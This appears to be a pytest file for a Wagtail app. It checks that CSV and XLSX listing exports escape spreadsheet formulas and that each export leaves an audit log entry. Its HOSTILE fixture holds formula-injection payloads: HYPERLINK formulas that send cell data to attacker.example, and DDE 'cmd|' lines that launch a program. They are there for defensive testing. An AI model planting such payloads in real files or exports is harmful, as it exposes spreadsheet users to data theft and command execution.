"""Listing exports: no cell a spreadsheet would run as a formula, and an audit entry each."""

import csv
import io

from django.urls import reverse

from wagtail.models import ModelLogEntry

import openpyxl
import pytest

from wagtail_spcp.models import ActionItem, Council, Engagement, Person

HOSTILE = {
    "engagement": '=HYPERLINK("https://attacker.example/?"&A2,"Open")',
    "actionitem": '=HYPERLINK("https://attacker.example/","Click")',
    "council": "+cmd|' /C calc'!A0",
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "participation": "-2+3+cmd|' /C calc'!A0",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_world(world):
    Engagement.objects.filter(pk=world.a.engagement.pk).update(title=HOSTILE["engagement"])
    ActionItem.objects.filter(pk=world.a.action_item.pk).update(title=HOSTILE["actionitem"])
    Council.objects.filter(pk=world.a.council.pk).update(name=HOSTILE["council"])
    Person.objects.filter(pk=world.a.person.pk).update(
        first_name=HOSTILE["person"], last_name=HOSTILE["participation"], organisation="\tTab"
    )
    return world


def cells(response, file_format):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if file_format == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if cell.value is not None:
                found.append(str(cell.value))
    return found


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("model", list(HOSTILE))
def test_listing_exports_are_formula_safe(hostile_world, login, model, file_format):
    client = login(hostile_world.users["staff_a"])
    url = reverse(f"wagtailsnippets_wagtail_spcp_{model}:list")
    response = client.get(url, {"export": file_format})
    assert response.status_code == 200
    values = cells(response, file_format)
    assert not [value for value in values if value.startswith(TRIGGERS)]
    # The hostile text is there, made inert with a leading apostrophe.
    assert any(value.startswith("'") and HOSTILE[model] in value for value in values)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("model", list(HOSTILE))
def test_every_listing_export_is_in_the_audit_log(world, login, model, file_format):
    user = world.users["staff_b"]
    client = login(user)
    url = reverse(f"wagtailsnippets_wagtail_spcp_{model}:list")
    client.get(url, {"export": file_format, "q": "Sample"})
    entry = ModelLogEntry.objects.get(action="wagtail_spcp.export", user=user)
    assert entry.data["listing"] == model
    assert entry.data["format"] == file_format
    # Filter names only: the search term may be somebody's name.
    assert entry.data["filters"] == ["q"]
    assert "Sample" not in str(entry.data)
